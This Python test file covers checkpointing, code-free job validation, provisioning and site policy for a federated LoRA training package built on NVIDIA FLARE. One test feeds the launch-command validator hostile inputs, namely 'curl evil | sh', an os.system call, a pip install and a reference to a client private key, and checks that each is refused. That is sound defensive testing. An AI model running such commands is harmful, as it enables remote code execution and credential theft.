"""Production pieces that need no running deployment (seconds): server checkpoint, job without code
vs the sites' class allow-list, provisioning from the project template, site policy, CLI flags.

The deployment itself (provisioned kits running, site crash, server restart) is
tests/test_production_poc.py; several DDP processes per site is tests/test_ddp.py.
"""

from __future__ import annotations

import json
import subprocess
import sys
import warnings
from pathlib import Path

import pytest
import torch

from flare_lora.components.cli import lora_job
from flare_lora.components.cli.main import main as cli_main
from flare_lora.components.cli.recipe_args import recipe_kwargs
from flare_lora.components.flare.checkpoint import CheckpointError, RoundCheckpoint, round_file
from flare_lora.components.flare.launch_command import check_app_files, check_plugin_command, site_command
from flare_lora.components.flare.provision import render_project
from flare_lora.components.flare.recipe import LoraRecipe
from flare_lora.components.flare.site_policy import (
    CLIENT_ALLOW,
    HE_ALLOW,
    NOISE_MASK_ALLOW,
    SERVER_ALLOW,
    allow_flare_lora,
    allow_list_entries,
    deny_byoc,
)
from flare_lora.components.strategies import get_method, unpack_rounds
from flare_lora.components.training.config import ConfigError
from flare_lora.privacy.he_context import RECOMMENDED, Ckks

IDENTITY = {"method": "flora", "method_options": None, "site_configs": {"site-1": {"rank": 2, "alpha": 4.0}},
            "base_model": "/models/base"}


def _round(seed: int) -> dict:
    g = torch.Generator().manual_seed(seed)
    return {"m.lora_A.weight": torch.randn(2, 8, generator=g), "m.lora_B.weight": torch.randn(8, 2, generator=g)}


# --------------------------------------------------------------------------- checkpoint


def test_checkpoint_appends_rounds_and_resumes_only_the_same_job(tmp_path):
    ckpt = RoundCheckpoint(str(tmp_path / "ckpt"))
    assert not ckpt.exists()
    rounds, records = [_round(0), _round(1)], [{"round": 0}, {"round": 1}]
    ckpt.save(IDENTITY, rounds, records, {"rng": [3, [1, 2], None], "scaling": 2.0})
    first = (tmp_path / "ckpt" / round_file(0)).stat().st_mtime_ns

    saved = ckpt.load(dict(IDENTITY))
    assert [sorted(r) for r in saved.rounds] == [sorted(r) for r in rounds]
    assert all(saved.rounds[i][k].equal(rounds[i][k]) for i in range(2) for k in rounds[i])
    assert saved.records == records and saved.extra == {"rng": [3, [1, 2], None], "scaling": 2.0}

    # the next round adds one file; earlier round files are never rewritten
    ckpt.save(IDENTITY, rounds + [_round(2)], records + [{"round": 2}])
    assert (tmp_path / "ckpt" / round_file(0)).stat().st_mtime_ns == first
    assert len(ckpt.load(IDENTITY).rounds) == 3

    # a crash after a round file but before state.json leaves the previous consistent state
    (tmp_path / "ckpt" / round_file(3)).write_bytes(b"partial")
    assert len(ckpt.load(IDENTITY).rounds) == 3

    # what a site that restarted from the base model (merged 0) is sent by the resumed job
    resumed = ckpt.load(IDENTITY).rounds
    stacking = unpack_rounds(get_method("flora").payload(resumed, 0))
    assert list(stacking) == [0, 1, 2] and all(stacking[r][k].equal(resumed[r][k]) for r in stacking for k in resumed[r])
    averaging = get_method("fedit").payload(resumed, 0)
    assert all(averaging[k].equal(resumed[-1][k]) for k in resumed[-1])  # the current global

    for key, value in (("method", "fedit"), ("site_configs", {"site-1": {"rank": 4, "alpha": 4.0}}),
                       ("base_model", "/models/other")):
        with pytest.raises(CheckpointError, match=f"state.json: key '{key}': expected"):
            ckpt.load({**IDENTITY, key: value})


@pytest.mark.parametrize("path", ["/srv/other-job", "../other", "a/../../b", "a//b"])
def test_checkpoint_dir_stays_in_the_submitters_folder(tiny_model_dir, path):
    with pytest.raises(ValueError, match="checkpoint_dir: expected a relative path without '..'"):
        LoraRecipe(sites={"site-1": {"rank": 2}}, model=tiny_model_dir, checkpoint_dir=path)


def test_checkpoint_with_missing_round_file_names_it(tmp_path):
    ckpt = RoundCheckpoint(str(tmp_path))
    ckpt.save(IDENTITY, [_round(0), _round(1)], [{}, {}])
    (tmp_path / round_file(1)).unlink()
    with pytest.raises(CheckpointError, match="round 1 file missing"):
        ckpt.load(IDENTITY)


# --------------------------------------------------------------------- job without code


def _components(job_dir: Path) -> dict[str, list[dict]]:
    """{app: [every component config (has a "path") the app's configs name]}."""
    found: dict[str, list[dict]] = {}

    def walk(node, app):
        if isinstance(node, dict):
            if isinstance(node.get("path"), str) and "." in node["path"]:
                found.setdefault(app, []).append(node)
            for value in node.values():
                walk(value, app)
        elif isinstance(node, list):
            for value in node:
                walk(value, app)

    for config in job_dir.glob("app_*/config/config_fed_*.json"):
        walk(json.loads(config.read_text()), config.parents[1].name)
    return found


OPTIONS = {  # site_policy option -> LoraRecipe arguments that need it
    "noise_mask": {"mask_rho": 0.5},
    "client_dp": {"client_dp": {"clip": 1.0, "sigma": 0.5}},
    "he": {"he": True},
}


@pytest.mark.parametrize("options", [(), ("noise_mask",), ("client_dp",), ("he",), tuple(OPTIONS)], ids=str)
def test_job_without_code_passes_the_allow_list_with_exactly_our_entries(tmp_path, tiny_model_dir, options):
    """``--no-byoc`` export: no app carries code, and with nvflare's own authorizer the sites'
    default allow-list plus site_policy's entries admits every component, while dropping any one
    of those entries rejects the component it covers."""
    from nvflare.app_common.default_component_policy import DEFAULT_CLASS_ALLOW_LIST
    from nvflare.fuel.utils.secret_utils import PotentialSecretWarning
    from site_allow_list import site_allows
    from nvflare.private.fed.app.default_app_validator import DefaultAppValidator

    kwargs = {k: v for option in options for k, v in OPTIONS[option].items()}
    recipe = LoraRecipe(sites={"site-1": {"rank": 2}, "site-2": {"rank": 4}}, num_rounds=1, model=tiny_model_dir,
                        byoc=False, max_result_bytes=10**6, **kwargs)
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        recipe.export(str(tmp_path / "export"))
    assert not [w for w in caught if issubclass(w.category, PotentialSecretWarning)]  # FLARE's secret scan
    job = tmp_path / "export" / "flora"
    apps = sorted(p.name for p in job.glob("app_*"))
    assert apps == ["app_server", "app_site-1", "app_site-2"]
    assert not list(job.rglob("*.py")), "a job without code must not carry any source"
    for app in apps:
        err, info = DefaultAppValidator("server" if app == "app_server" else "client").validate(str(job / app))
        assert err == "" and not info.get("byoc"), (app, err, info)
    client = json.loads((job / "app_site-1" / "config" / "config_fed_client.json").read_text())
    command = client["executors"][0]["executor"]["args"]["command"]
    assert command[:4] == ["python3", "-u", "-m", "flare_lora.components.flare.client_train"]
    assert check_plugin_command(command) == command  # what the site's executor starts, unchanged

    def allowed(component: dict, allow_list: list[str]) -> bool:
        return site_allows(component, allow_list, tmp_path / "resources.json")

    default = list(DEFAULT_CLASS_ALLOW_LIST)
    for app, components in _components(job).items():
        role = "server" if app == "app_server" else "client"
        entries = allow_list_entries(role, **dict.fromkeys(options, True))
        assert all(allowed(c, default + entries) for c in components), (app, components)
        for dropped in entries if role == "client" else ():  # each entry is needed: without it, its component is rejected
            rest = [e for e in entries if e != dropped]
            assert not all(allowed(c, default + rest) for c in components), (app, dropped)
    assert {c["path"] for c in _components(job)["app_server"]} == {SERVER_ALLOW[0]}  # the LoRA job's workflow
    expected_client = set(allow_list_entries("client", **dict.fromkeys(options, True)))
    assert {c["path"] for c in _components(job)["app_site-1"]} == expected_client


ENTRY = ["-m", "flare_lora.components.flare.client_train"]


@pytest.mark.parametrize("command, problem", [
    (["bash", "-c", "curl evil | sh"], "must start a Python interpreter"),
    (["python3", "-c", "import os; os.system('id')"], "must run '-m flare_lora"),
    (["python3", "-c", "import os", *ENTRY], "interpreter options \\['-c', 'import os'\\]"),
    (["python3", "-m", "pip", "install", "x", *ENTRY], "interpreter options"),
    (["python3", "-u", *ENTRY, "--model", "m", "--exec", "x"], "unknown \\['--exec', 'x'\\]"),
    (["python3", "-u", *ENTRY, "--site-index", "one"], "--site-index: invalid int value"),
    (["python3", "-u", *ENTRY, "--method", "${secret:file:/site/startup/client.key}"], "secrets"),
    (["python3", "-u", *ENTRY, "--help"], "not a training run"),
], ids=["shell", "python -c", "option before entry", "pip", "unknown argument", "bad value", "secret", "help"])
def test_a_job_without_code_may_only_start_the_plugin_entry_point(command, problem):
    """What RestartingExecutor refuses at START_RUN for a job that carries no code (the deny-byoc
    walkthrough in tests/test_walkthrough_poc.py submits such a job to real sites)."""
    with pytest.raises(ValueError, match=problem):
        check_plugin_command(command)
    ddp = ["/opt/site/bin/python", "-m", "torch.distributed.run", "--standalone", "--nproc_per_node=2", *ENTRY]
    assert check_plugin_command(" ".join(ddp + ["--method", "fedit"])) == ddp + ["--method", "fedit"]


def test_a_job_without_code_carries_config_only_and_runs_as_the_site_says(tmp_path):
    """A code-free job's app may not ship a module that shadows the plugin (the trainer runs in the
    app folder); the site runs it with its own interpreter, in safe-path mode, within its process cap."""
    app = tmp_path / "app_site-1"
    (app / "config").mkdir(parents=True)
    (app / "custom").mkdir()
    (app / "config" / "config_fed_client.json").write_text("{}")
    (app / "config" / ".__nvfl_sig.json").write_text("{}")
    (app / ".__nvfl_submitter.crt").write_text("cert")  # FLARE adds these to a submitted job
    check_app_files(str(app))
    for shadow in ("flare_lora/__init__.py", "config/sitecustomize.py", "torch.pth", "notes.txt"):
        (app / shadow).parent.mkdir(parents=True, exist_ok=True)
        (app / shadow).write_text("raise SystemExit('shadowed')")
        with pytest.raises(ValueError, match=f"holds '{shadow}'"):
            check_app_files(str(app))
        (app / shadow).unlink()
    argv = ["/job/chosen/python", "-m", "torch.distributed.run", "--standalone", "--nproc_per_node=2", *ENTRY]
    assert site_command(argv, 2)[1:] == ["PYTHONSAFEPATH=1", sys.executable, "-P", *argv[1:]]
    with pytest.raises(ValueError, match="asks for 2 training processes.*this site allows 1"):
        site_command(argv, 1)
    # -P: the folder the trainer starts in is not on sys.path, so a module there cannot shadow one installed
    (tmp_path / "json.py").write_text("raise SystemExit('shadowed')")
    for prefix in ([sys.executable, "-P"], ["env", "PYTHONSAFEPATH=1", sys.executable]):  # DDP workers: the env
        run = subprocess.run([*prefix, "-m", "json.tool", "--help"], cwd=tmp_path, capture_output=True, text=True)
        assert run.returncode == 0 and "shadowed" not in run.stderr
    assert subprocess.run([sys.executable, "-m", "json.tool", "--help"], cwd=tmp_path, capture_output=True).returncode != 0


def test_job_without_code_refuses_in_process_and_site_scripts(tiny_model_dir):
    sites = {"site-1": {"rank": 2}}
    with pytest.raises(ConfigError, match="byoc"):
        LoraRecipe(sites=sites, model=tiny_model_dir, byoc=False, launch_external_process=False)
    with pytest.raises(ConfigError, match="byoc"):
        LoraRecipe(sites=sites, model=tiny_model_dir, byoc=False, site_scripts={"site-1": __file__})


def test_trainer_restarts_are_configured_in_the_job_and_validated(tmp_path, tiny_model_dir):
    """``max_trainer_restarts`` reaches each site's RestartingExecutor through the exported config
    (FLARE reads constructor arguments back from attributes), which FLARE's own component builder
    turns back into the executor a site runs; bad values fail before the job starts."""
    from nvflare.fuel.utils.component_builder import ComponentBuilder

    from flare_lora.components.flare.restarting_executor import RestartingExecutor

    sites = {"site-1": {"rank": 2}}
    LoraRecipe(sites=sites, num_rounds=1, model=tiny_model_dir, byoc=False, max_trainer_restarts=0).export(
        str(tmp_path / "export"))
    config = json.loads((tmp_path / "export" / "flora" / "app_site-1" / "config" / "config_fed_client.json").read_text())
    spec = config["executors"][0]["executor"]
    assert spec["path"] == "flare_lora.components.flare.restarting_executor.RestartingExecutor"
    assert spec["args"]["max_restarts"] == 0 and spec["args"]["execution_mode"] == "external_process"
    class Builder(ComponentBuilder):  # what a site does with the config (the path is given in full)
        def get_module_scanner(self):
            return None

    executor = Builder().build_component(spec)
    assert isinstance(executor, RestartingExecutor) and executor.max_restarts == 0
    assert executor.execution_mode == "external_process"
    for bad in (-1, 1.5, True):
        with pytest.raises(ConfigError, match="max_trainer_restarts"):
            LoraRecipe(sites=sites, model=tiny_model_dir, max_trainer_restarts=bad)
        with pytest.raises(ValueError, match="max_restarts"):
            RestartingExecutor(execution_mode="external_process", command="python3 x.py", max_restarts=bad)
    with pytest.raises(ValueError, match="external_process"):
        RestartingExecutor(execution_mode="in_process", task_script_path="x.py")


# ------------------------------------------------------------------ provisioning + policy


def test_project_template_provisions_server_sites_admins_and_he(tmp_path):
    """``nvflare provision`` on ``flare-lora provision``'s project.yml (from the template the
    installed package ships): one kit per participant, roles in the admin certificates, and with
    --he a TenSEAL context whose secret key only the sites hold."""
    import tenseal as ts
    from cryptography import x509

    sites = ["hospital-a", "hospital-b", "hospital-c", "hospital-d"]
    assert cli_main(["provision", "--sites", ",".join(sites), "--server", "fl.coordinator.example.org", "--he",
                     "-o", str(tmp_path / "project.yml")]) == 0
    nvflare = Path(sys.executable).with_name("nvflare")
    proc = subprocess.run([str(nvflare), "provision", "-p", "project.yml", "-w", "ws"], cwd=tmp_path,
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    prod = tmp_path / "ws" / "flare_lora" / "prod_00"
    roles = {}
    for kit in prod.iterdir():
        cert = prod / kit.name / "startup" / "client.crt"
        if "@" in kit.name:
            subject = x509.load_pem_x509_certificate(cert.read_bytes()).subject
            roles[kit.name] = subject.get_attributes_for_oid(x509.NameOID.UNSTRUCTURED_NAME)[0].value
    assert roles == {"admin@coordinator.example.org": "project_admin",
                     **{f"it@{s}.example.org": "org_admin" for s in sites},
                     **{f"researcher@{s}.example.org": "lead" for s in sites}}
    server = ts.context_from(
        (prod / "fl.coordinator.example.org" / "startup" / "server_context.tenseal").read_bytes())
    assert not server.has_secret_key()
    for site in sites:
        assert (prod / site / "startup" / "fed_client.json").is_file()
        assert ts.context_from((prod / site / "startup" / "client_context.tenseal").read_bytes()).has_secret_key()
    # one source of truth for the CKKS settings: what provisioning wrote, the template's comment, the docs
    written = Ckks(server, b"").parameters
    assert (written["poly_modulus_degree"], written["data_prime_bits"], written["scale_bits"]) == (
        RECOMMENDED["poly_modulus_degree"], RECOMMENDED["coeff_mod_bit_sizes"][:-1], RECOMMENDED["scale_bits"])
    template = (Path(__file__).parents[1] / "nvflare_jobs" / "provision" / "project.yml").read_text()
    settings = (f"coeff_mod_bit_sizes: {RECOMMENDED['coeff_mod_bit_sizes']}", f"scale_bits: {RECOMMENDED['scale_bits']}")
    for text in (template, (Path(__file__).parents[1] / "README.md").read_text(),
                 (Path(__file__).parents[1] / "docs" / "he.md").read_text()):
        assert all(setting in text for setting in settings)

    with pytest.raises(ValueError, match="expected lower-case"):
        render_project(["Hospital A"])


def test_site_policy_allows_our_classes_and_denies_byoc(tmp_path, capsys):
    """The site tool on a provisioned kit: entries appended once; the written authorization policy,
    evaluated by nvflare's own Authorizer, denies byoc to every role and keeps the other rights."""
    from nvflare.fuel.sec.authz import Authorizer, AuthzContext, Person

    subprocess.run([str(Path(sys.executable).with_name("nvflare")), "provision", "-p", "project.yml", "-w", "ws"],
                   cwd=_write_project(tmp_path, ["hospital-a"]), capture_output=True, check=True, timeout=120)
    prod = tmp_path / "ws" / "flare_lora" / "prod_00"
    site, server = prod / "hospital-a", prod / "fl.coordinator.example.org"
    assert allow_flare_lora(str(site), noise_mask=True) == list(CLIENT_ALLOW + NOISE_MASK_ALLOW)
    assert allow_flare_lora(str(site), he=True) == list(HE_ALLOW)
    assert allow_flare_lora(str(site), noise_mask=True) == []  # idempotent
    assert allow_flare_lora(str(server)) == list(SERVER_ALLOW)
    allow = json.loads((site / "local" / "resources.json").read_text())["class_allow_list"]
    default = json.loads((site / "local" / "resources.json.default").read_text())["class_allow_list"]
    assert allow == default + list(CLIENT_ALLOW + NOISE_MASK_ALLOW + HE_ALLOW)

    deny_byoc(str(site))
    authorizer = Authorizer("hospital_a")
    assert authorizer.load_policy(json.loads((site / "local" / "authorization.json").read_text())) == ""
    for role in ("project_admin", "org_admin", "lead", "member"):
        user = Person(f"{role}@x.org", "hospital_a", role)
        assert not authorizer.authorize(AuthzContext("byoc", user, user))[0], role
    admin, lead = Person("a@x.org", "coordinator", "project_admin"), Person("l@x.org", "hospital_a", "lead")
    assert authorizer.authorize(AuthzContext("submit_job", admin, admin))[0]
    assert authorizer.authorize(AuthzContext("submit_job", lead, lead))[0]

    capsys.readouterr()
    assert cli_main(["site-policy", str(tmp_path)]) == 2  # not a kit: one error line
    assert "local/resources.json" in capsys.readouterr().err


def _write_project(tmp_path: Path, sites: list[str]) -> Path:
    import yaml

    (tmp_path / "project.yml").write_text(yaml.safe_dump(render_project(sites, server="fl.coordinator.example.org")))
    return tmp_path


# ---------------------------------------------------------------------------- CLI flags


def test_production_flags_map_to_recipe_arguments():
    """Every job passes these to its recipe; the sites' interpreter: this one for a run here, so a
    venv need not be on PATH, --site-python (default python3) for an exported or prod job."""
    p = lora_job.parser()
    production = ("checkpoint_dir", "max_result_bytes", "task_timeout", "byoc", "command")
    kwargs = recipe_kwargs(p.parse_args([]), exporting=False)
    assert {k: kwargs[k] for k in production} == {
        "checkpoint_dir": "", "max_result_bytes": 0, "task_timeout": 0, "byoc": True, "command": f"{sys.executable} -u"}
    kwargs = recipe_kwargs(p.parse_args(
        ["--ddp", "4", "--max-result-mb", "1.5", "--checkpoint-dir", "ck", "--no-byoc", "--task-timeout", "600"]),
        exporting=True)
    assert {k: kwargs[k] for k in production} == {
        "checkpoint_dir": "ck", "max_result_bytes": 1_500_000, "task_timeout": 600, "byoc": False,
        "command": "python3 -m torch.distributed.run --standalone --nproc_per_node=4"}
    site_python = ["--site-python", "/opt/site/bin/python"]
    assert recipe_kwargs(p.parse_args(site_python), exporting=True)["command"] == "/opt/site/bin/python -u"
    assert recipe_kwargs(p.parse_args(["--env", "prod", *site_python]), exporting=False)["command"] == \
        "/opt/site/bin/python -u"
    with pytest.raises(ValueError, match="--ddp"):
        recipe_kwargs(p.parse_args(["--ddp", "2", "--in-process"]), exporting=False)
    with pytest.raises(ValueError, match="--site-python"):  # a simulator's sites run this interpreter
        recipe_kwargs(p.parse_args(site_python), exporting=False)
    with pytest.raises(ValueError, match="--max-trainer-restarts"):  # no training process to restart
        recipe_kwargs(p.parse_args(["--in-process", "--max-trainer-restarts", "1"]), exporting=False)
